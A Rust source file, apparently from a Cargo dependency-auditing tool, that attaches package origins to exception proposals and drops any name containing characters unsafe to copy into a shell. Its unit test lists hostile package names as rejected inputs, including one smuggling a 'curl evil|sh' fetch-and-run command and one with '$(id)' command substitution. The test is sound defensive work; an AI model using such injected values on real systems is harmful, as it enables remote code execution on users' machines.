//! How the packages that a report proposes exceptions for have to be called, which says where they come from. In: a report, the build graph. Out: the report's
//! proposals, each for that very package; none where its name is not fit to be copied into a shell.

use crate::attribute::Graph;
use crate::judge::Places;
use crate::model::report::Report;
use crate::model::{Package, Proposal};
use crate::plan::exceptions::whom::Origin;

/// A profile that was typed wins over one that a file chooses: whoever follows a line that brings a profile has to type that one. Said behind the line, where TOML has
/// its comments.
pub fn type_it(report: &mut Report) {
    let lines = report.findings.iter_mut().filter_map(|finding| finding.allow.as_mut());
    for line in lines.filter(|line| line.starts_with("profile.mine = ")) {
        line.push_str(" # --policy was typed, and wins over this file: type --policy mine");
    }
}

pub fn name(report: &mut Report, graph: Option<&Graph>, places: &Places) {
    let actors: Vec<(_, Option<Package>)> = report.actors.iter().map(|actor| (actor.id, actor.package.clone())).collect();
    for finding in &mut report.findings {
        if finding.except.is_none() {
            continue;
        }
        let package = actors.iter().find(|(id, _)| *id == finding.actor).and_then(|(_, package)| package.as_ref());
        let Some(known) = package.and_then(|package| graph?.package_in(package.manifest_dir.as_deref()?)) else { continue };
        let origin = Origin::of(known.source.as_deref(), known.manifest_dir.as_deref(), &places.cargo_home);
        let whom = origin.name(&known.name, &known.version);
        // A source is what a repository wrote.
        finding.except = finding.except.take().filter(|_| is_fit(&whom)).map(|except| Proposal { whom, ..except });
    }
}

/// Means nothing to a shell, in quotes.
fn is_fit(whom: &str) -> bool {
    whom.chars().all(|c| c.is_ascii_alphanumeric() || "-_.+:/?=&#@%~".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_may_be_copied() {
        for (whom, fit) in [
            ("path#x@1.2.3", true),
            ("git+https://example.org/x.git?branch=a%20b#00ff#x@1.2.3+b", true),
            ("git+https://example.org/x';curl evil|sh;'#x@1.2.3", false),
            ("git+https://example.org/$(id)#x@1.2.3", false),
            ("git+https://example.org/\u{202e}#x@1.2.3", false),
        ] {
            assert_eq!(is_fit(whom), fit, "{whom}");
        }
    }
}
